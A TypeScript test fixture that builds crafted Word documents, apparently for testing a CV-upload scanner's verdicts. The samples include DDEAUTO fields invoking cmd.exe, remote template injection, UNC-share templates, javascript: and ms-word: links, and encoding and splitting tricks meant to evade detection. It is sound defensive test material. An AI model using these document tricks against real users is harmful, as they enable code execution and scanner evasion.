import { aDocx, documentXml, outsideRelation } from "./a-docx.ts";
import type { CorpusMember, Verdict } from "./corpus-member.ts";

const RELS = "word/_rels/document.xml.rels";
const SETTINGS_RELS = "word/_rels/settings.xml.rels";

/** Ways to make Word fetch or run something, and parts that only look like it. */
export const WORD_TRICKS: CorpusMember[] = [...relations(), ...fields(), ...spellings()];

function relations(): CorpusMember[] {
  const relation = (type: string, target: string) => ({
    [SETTINGS_RELS]: outsideRelation(type, target),
  });
  return [
    word(
      "an outside template whose mode is written as an entity",
      {
        [SETTINGS_RELS]: outsideRelation(
          "attachedTemplate",
          "https://voorbeeld.example/t.dotm",
        ).replace('"External"', '"&#69;xternal"'),
      },
      "active",
    ),
    word(
      "an outside template under another prefix",
      {
        [SETTINGS_RELS]: prefixed(
          outsideRelation("attachedTemplate", "https://voorbeeld.example/t.dotm"),
        ),
      },
      "active",
    ),
    word(
      "an outside picture with > in its address",
      { [RELS]: outsideRelation("image", "https://voorbeeld.example/a>b.png") },
      "active",
    ),
    word(
      "an outside picture in single quotes and upper case",
      {
        [RELS]: outsideRelation("image", "https://voorbeeld.example/a.png").replace(
          'TargetMode="External"',
          "TargetMode = 'EXTERNAL'",
        ),
      },
      "active",
    ),
    word(
      "a template on a share",
      relation("attachedTemplate", "\\\\server\\deel\\t.dotm"),
      "active",
    ),
    word(
      "a template on a share as a file address",
      relation("attachedTemplate", "file://server/deel/t.dotm"),
      "active",
    ),
    word(
      "a template from its writer's own disk",
      relation("attachedTemplate", "file:///C:\\Users\\sanne\\Sjablonen\\cv.dotx"),
      "docx",
    ),
    word("a template called Normal.dotm", relation("attachedTemplate", "Normal.dotm"), "docx"),
    word(
      "a frame from elsewhere",
      { [RELS]: outsideRelation("frame", "https://voorbeeld.example/") },
      "active",
    ),
    word(
      "an object from elsewhere",
      { [RELS]: outsideRelation("oleObject", "https://voorbeeld.example/x.html!") },
      "nested",
    ),
    word(
      "another document that is read into it",
      {
        [RELS]: outsideRelation("aFChunk", "/word/deel.htm").replace(' TargetMode="External"', ""),
        "word/deel.htm": "x",
      },
      "nested",
    ),
    word(
      "a link that starts a script",
      { [RELS]: outsideRelation("hyperlink", "javascript:alert(1)") },
      "active",
    ),
    word(
      "a link that starts a program",
      { [RELS]: outsideRelation("hyperlink", "ms-word:ofe|u|https://voorbeeld.example") },
      "active",
    ),
    word(
      "links to a mailbox, a telephone and a profile",
      { [RELS]: outsideRelation("hyperlink", "mailto:sanne@voorbeeld.example") },
      "docx",
    ),
    word(
      "a link that names a macro and External in its path",
      { [RELS]: outsideRelation("hyperlink", "https://voorbeeld.example/macroEnabled/DDEAUTO") },
      "docx",
    ),
    word(
      "a drawing that fetches its picture",
      {
        "word/document.xml": documentXml(
          '<w:pict><v:shape><v:imagedata src="https://voorbeeld.example/a.png"/></v:shape></w:pict>',
        ),
      },
      "active",
    ),
  ];
}

function fields(): CorpusMember[] {
  const char = (kind: string) => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`;
  const text = (words: string) => `<w:r><w:instrText>${words}</w:instrText></w:r>`;
  const field = (...inside: string[]) =>
    documentXml(
      `<w:p>${char("begin")}${inside.join("")}${char("separate")}<w:r><w:t>1</w:t></w:r>${char("end")}</w:p>`,
    );
  const inner = (...inside: string[]) => `${char("begin")}${inside.join("")}${char("end")}`;
  return [
    word(
      "a simple field that calls a program",
      {
        "word/document.xml": documentXml(
          '<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\cmd.exe"/></w:p>',
        ),
      },
      "active",
    ),
    word(
      "a field split over several runs",
      { "word/document.xml": field(text("DD"), text("EAU"), text("TO cmd")) },
      "active",
    ),
    word(
      "a field split by a comment inside its word",
      { "word/document.xml": field(text("DDE<!-- x -->AUTO cmd")) },
      "active",
    ),
    word(
      "a field written in letters' numbers",
      { "word/document.xml": field(text("&#68;&#68;&#69; cmd")) },
      "active",
    ),
    word(
      "a field in a marked section",
      { "word/document.xml": field(text("<![CDATA[DDEAUTO cmd]]>")) },
      "active",
    ),
    word(
      "a field whose name another field writes",
      { "word/document.xml": field(inner(text("QUOTE 68 68 69")), text(" cmd")) },
      "active",
    ),
    word(
      "a field that fetches a picture",
      {
        "word/document.xml": documentXml(
          '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;https://voorbeeld.example/a.png&quot; \\d"/></w:p>',
        ),
      },
      "active",
    ),
    word(
      "a field that fetches a text, in its header",
      { "word/header1.xml": field(text("includetext "), text('"\\\\\\\\server\\\\a.docx"')) },
      "active",
    ),
    word(
      "a field that links to a spreadsheet",
      { "word/document.xml": field(text(" LINK Excel.Sheet.8 &quot;c:\\\\a.xls&quot;")) },
      "active",
    ),
    word(
      "a field inside another field's text",
      { "word/document.xml": field(text("IF 1=1 &quot;"), inner(text("DDE cmd")), text("&quot;")) },
      "active",
    ),
    word(
      "page numbers, a date and a link as fields",
      {
        "word/document.xml": field(text(" PAGE \\* MERGEFORMAT ")),
        "word/footer1.xml": documentXml(
          '<w:p><w:fldSimple w:instr=" DATE \\@ &quot;d MMMM yyyy&quot; "/><w:fldSimple w:instr=" HYPERLINK &quot;https://voorbeeld.example/DDE/INCLUDETEXT&quot; "/></w:p>',
        ),
      },
      "docx",
    ),
    word(
      "a sum of page numbers as a field",
      { "word/document.xml": field(text(" = "), inner(text(" PAGE ")), text("+1")) },
      "docx",
    ),
    word(
      "the words of a field on the page",
      {
        "word/document.xml": documentXml(
          "<w:p><w:r><w:t>DDEAUTO, INCLUDEPICTURE en macroEnabled: beveiliging van documenten</w:t></w:r></w:p>",
        ),
      },
      "docx",
    ),
  ];
}

function spellings(): CorpusMember[] {
  return [
    word(
      "an XML part that is not well formed",
      { "word/document.xml": documentXml("<w:p><w:r>") },
      "damaged",
    ),
    word(
      "a part in an encoding that hides its signs",
      {
        "word/document.xml": documentXml().replace(
          '<?xml version="1.0"?>',
          '<?xml version="1.0" encoding="UTF-7"?>',
        ),
      },
      "disguised",
    ),
    word("an unknown entity", { "word/document.xml": documentXml("<w:p>&x;</w:p>") }, "damaged"),
    word(
      "a document type in a part with another ending",
      { "word/extra.dat": '<!DOCTYPE a SYSTEM "http://voorbeeld.example/x"><a/>' },
      "active",
    ),
    word(
      "relations in a part with another ending",
      {
        "word/_rels/extra.dat": outsideRelation(
          "attachedTemplate",
          "https://voorbeeld.example/t.dotm",
        ),
      },
      "active",
    ),
    word(
      "text boxes, tables and tracked changes",
      {
        "word/document.xml": documentXml(
          "<w:tbl><w:tr><w:tc><w:p><w:ins><w:r><w:t>2019 – heden</w:t></w:r></w:ins></w:p></w:tc></w:tr></w:tbl>",
        ),
      },
      "docx",
    ),
  ];
}

function word(what: string, parts: Record<string, string>, ...verdicts: Verdict[]): CorpusMember {
  return {
    what: `a Word document with ${what}`,
    name: "cv.docx",
    bytes: () => aDocx(parts),
    verdicts,
  };
}

function prefixed(xml: string): string {
  return xml
    .replace("<Relationships xmlns=", "<r:Relationships xmlns:r=")
    .replace("<Relationship ", "<r:Relationship ")
    .replace("</Relationships>", "</r:Relationships>");
}
